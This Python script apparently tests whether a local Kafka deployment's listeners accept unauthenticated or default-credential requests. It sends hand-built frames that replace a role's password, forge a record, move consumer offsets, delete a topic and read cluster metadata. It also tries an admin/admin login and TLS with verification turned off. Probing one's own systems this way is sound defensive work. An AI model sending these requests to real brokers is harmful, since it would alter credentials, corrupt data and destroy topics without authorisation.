"""Try the local Kafka's listeners without a login: a role's password, a sample, offsets, a topic, the quorum.

A plain script for the standard library alone; its contract is in `_stranger`. Requests are written byte by byte, so
that a listener that asks for nothing would do what they say.
"""

import base64
import json
import os
import socket
import ssl
import struct
import sys
from collections.abc import Callable, Iterator
from typing import Any

CLIENT = "stranger"
ANSWER_S = 30.0
ITERATIONS = 4096
MECHANISM = 2  # SCRAM-SHA-512
POLYNOMIAL = 0x82F63B78  # CRC-32C


def text(value: str) -> bytes:
    """Return a STRING."""
    return struct.pack(">h", len(value)) + value.encode()


def compact(value: bytes) -> bytes:
    """Return a COMPACT_STRING or COMPACT_BYTES."""
    return bytes([len(value) + 1]) + value


def crc32c(data: bytes) -> int:
    """Return the checksum of a batch."""
    crc = 0xFFFFFFFF
    for byte in data:
        crc ^= byte
        for _ in range(8):
            crc = crc >> 1 ^ (POLYNOMIAL if crc & 1 else 0)
    return crc ^ 0xFFFFFFFF


def varint(value: int) -> bytes:
    """Return a zigzag number below 64 or so many more bytes."""
    value = value << 1 ^ value >> 63
    out = bytearray()
    while value > 0x7F:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes([*out, value])


def batch(value: bytes) -> bytes:
    """Return a batch with one record."""
    record = b"\x00" + varint(0) + varint(0) + varint(-1) + varint(len(value)) + value + varint(0)
    inner = struct.pack(">hiqqqhii", 0, 0, 1, 1, -1, -1, -1, 1) + varint(len(record)) + record
    return struct.pack(">qiiBI", 0, 9 + len(inner), 0, 2, crc32c(inner)) + inner


def request(key: int, version: int, body: bytes, *, tagged: bool = False) -> bytes:
    """Return a frame."""
    head = struct.pack(">hhi", key, version, 7) + text(CLIENT) + (b"\x00" if tagged else b"")
    return struct.pack(">i", len(head) + len(body)) + head + body


Answer = bytes
Harm = tuple[str, bytes, Callable[[Answer], int]]
"""What it does, the request, and where its answer has the error code."""


def number(place: int) -> Callable[[Answer], int]:
    """Return a function that reads the code at a place of an answer."""
    return lambda answer: int(struct.unpack_from(">h", answer, place)[0])


def harms(context: dict[str, Any]) -> Iterator[Harm]:
    """Give each request that would harm."""
    topic, group = context["topic"], context["group"]
    user = compact(context["roles"][0].encode()) + bytes([MECHANISM]) + struct.pack(">i", ITERATIONS)
    credentials = b"\x01\x02" + user + compact(os.urandom(16)) + compact(os.urandom(64)) + b"\x00\x00"
    yield "replace a role's password", request(51, 0, credentials, tagged=True), number(11 + len(context["roles"][0]))
    sample = b'{"sensor": "PS1", "value": 1.0, "note": "forged"}'
    records = batch(sample)
    produce = struct.pack(">hhii", -1, 1, 5000, 1) + text(topic) + struct.pack(">iii", 1, 0, len(records)) + records
    yield "forge a sample", request(0, 3, produce), number(4 + 4 + 2 + len(topic) + 4 + 4)
    place = struct.pack(">i", 1) + text(topic) + struct.pack(">iiq", 1, 0, 0) + text("")
    offsets = text(group) + struct.pack(">i", -1) + text("") + struct.pack(">q", -1) + place
    yield "move offsets", request(8, 2, offsets), number(4 + 4 + 2 + len(topic) + 4 + 4)
    gone = struct.pack(">i", 1) + text(topic) + struct.pack(">i", 5000)
    yield "delete a topic", request(20, 1, gone), number(4 + 4 + 4 + 2 + len(topic))
    quorum = b"\x02" + compact(b"__cluster_metadata") + b"\x02" + struct.pack(">i", 0) + b"\x00\x00\x00"
    yield "read the quorum", request(55, 0, quorum, tagged=True), number(5)


Way = tuple[str, Callable[[socket.socket], socket.socket]]


def plainly(connection: socket.socket) -> socket.socket:
    """Ask at once."""
    return connection


def guessing(connection: socket.socket) -> socket.socket:
    """Log in as the administrator, with a password that is no secret."""
    say(connection, request(17, 1, text("PLAIN")))
    login = b"\x00admin\x00admin"
    answer = say(connection, request(36, 0, struct.pack(">i", len(login)) + login))
    code = number(4)(answer)
    if code:
        raise PermissionError(f"the broker refuses the login with error {code}")
    return connection


def by_tls(connection: socket.socket) -> socket.socket:
    """Ask over TLS, without a certificate."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context.wrap_socket(connection)


def guessing_by_tls(connection: socket.socket) -> socket.socket:
    """Log in so, over TLS."""
    ready = by_tls(connection)
    try:
        return guessing(ready)
    except OSError:
        ready.close()
        raise


WAYS: dict[str, Callable[[socket.socket], socket.socket]] = {
    "plainly": plainly,
    "with a guessed login": guessing,
    "over TLS": by_tls,
    "with a guessed login over TLS": guessing_by_tls,
}


def say(connection: socket.socket, frame: bytes) -> Answer:
    """Return the answer to a frame, from its correlation id on. Raises OSError when the connection closes instead."""
    connection.sendall(frame)
    size = struct.unpack(">i", exactly(connection, 4))[0]
    return exactly(connection, size)


def exactly(connection: socket.socket, size: int) -> bytes:
    """Return so many bytes."""
    data = b""
    while len(data) < size:
        read = connection.recv(size - len(data))
        if not read:
            raise ConnectionResetError("the broker closes the connection")
        data += read
    return data


def outcome(address: str, way: Callable[[socket.socket], socket.socket], harm: Harm) -> str:
    """Return what became of an attempt."""
    host, _, port = address.rpartition(":")
    _, frame, code_of = harm
    try:
        with socket.create_connection((host, int(port)), timeout=ANSWER_S) as connection:
            connection.settimeout(ANSWER_S)
            with way(connection) as ready:
                answer = say(ready, frame)
    except (OSError, struct.error) as error:
        return f"refused: {error}"
    code = code_of(answer)
    if code == 0:
        return "open: it is done"
    return f"open: answered with error {code} {base64.b64encode(answer[:24]).decode()}"


def main(context: dict[str, Any]) -> None:
    """Try each harm on each listener, in each way."""
    for listener, address in context.get("kafka", {}).items():
        for how, way in WAYS.items():
            for harm in harms(context):
                row = {"door": f"kafka {listener}", "attempt": f"{harm[0]}, {how}"}
                sys.stdout.write(json.dumps({**row, "outcome": outcome(address, way, harm)}) + "\n")


if __name__ == "__main__":
    main(json.loads(sys.argv[1]))
